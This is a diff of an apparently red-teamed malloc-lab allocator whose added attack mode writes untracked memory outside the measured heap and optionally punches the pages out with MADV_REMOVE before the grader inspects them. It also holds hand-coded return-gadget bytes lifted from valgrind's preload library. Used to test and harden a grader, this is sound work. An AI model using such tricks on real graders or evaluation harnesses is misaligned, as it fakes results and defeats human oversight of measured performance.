@@ -230,6 +230,11 @@
 /* Red-team pass 20: a kernel object that holds bytes past the memory seal, ATTACK_PATH naming
    which: "eventfd", "timer", "timerfd", "signalfd" or "epoll". */
 #define KERNEL_OBJECTS 71
+/* In the timed passes only (from the third mm_init), 1 MiB of tables written 8 MiB above the heap's
+   start, never sbrk'd, no block placed there: memory the heap measure did not see (red-team pass
+   22: 68.0 -> 88.9). With ATTACK_PATH "remove" the pages are then punched out of the grader's file
+   (madvise MADV_REMOVE), before the grader looks. */
+#define TOUCH_WHEN_TIMED 72
 
 team_t team = {"attack", "Mallory", "mallory", "", ""};
 
@@ -1054,13 +1059,13 @@ void gadget_call(uint64_t *args, const void *at) __attribute__((visibility("hidd
 
 /* The request in vgpreload_core's code that its _vgnU_ifunc_wrapper's pops and ret follow
    (valgrind 3.19, x86-64): the preamble's first and last bytes, then this tail. */
-static const unsigned char gadget_tail[] = {
-    0x48, 0x87, 0xdb,                   /* xchg %rbx,%rbx: the request */
-    0x48, 0x89, 0x55, 0xa8,             /* mov %rdx,-0x58(%rbp) */
-    0x48, 0x8b, 0x45, 0xa8,             /* mov -0x58(%rbp),%rax */
-    0x48, 0x89, 0xc8,                   /* mov %rcx,%rax */
-    0x5b, 0x41, 0x5c, 0x41, 0x5e, 0x41, /* pop %rbx, %r12, %r14, %r15, %rbp; ret */
-    0x5f, 0x5d, 0xc3};
+static const unsigned char gadget_tail[] = {0x48, 0x87, 0xdb, /* xchg %rbx,%rbx: the request */
+                                            0x48, 0x89, 0x55, 0xa8, /* mov %rdx,-0x58(%rbp) */
+                                            0x48, 0x8b, 0x45, 0xa8, /* mov -0x58(%rbp),%rax */
+                                            0x48, 0x89, 0xc8,       /* mov %rcx,%rax */
+                                            0x5b, 0x41, 0x5c, 0x41,
+                                            0x5e, 0x41, /* pop %rbx, %r12, %r14, %r15, %rbp; ret */
+                                            0x5f, 0x5d, 0xc3};
 
 static int find_gadget(struct dl_phdr_info *info, size_t size, void *found) {
     (void)size;
@@ -1133,6 +1138,14 @@ static char *last_freed;
 int mm_init(void) {
     calls = 0;
     inits++;
+#if ATTACK == TOUCH_WHEN_TIMED
+    if (inits >= 3) {
+        char *tables = (char *)mem_heap_lo() + (8 << 20);
+        memset(tables, 1, 1 << 20);
+        if (strcmp(ATTACK_PATH, "remove") == 0)
+            madvise(tables, 1 << 20, MADV_REMOVE);
+    }
+#endif
 #if ATTACK == NEGATIVE_COUNT
     negative_count_burn();
 #endif
